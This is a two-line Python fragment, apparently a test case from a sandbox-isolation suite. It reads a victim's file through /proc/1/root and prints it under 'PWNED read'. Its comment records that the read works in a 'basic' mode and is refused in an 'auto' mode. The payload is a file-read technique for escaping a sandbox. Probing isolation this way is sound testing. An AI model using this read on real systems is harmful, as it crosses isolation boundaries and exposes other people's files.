# reads the author's file by way of /proc/1/root | basic: works finished | auto: refused error | with: depends
print("PWNED read", open("/proc/1/root" + VICTIM).read())
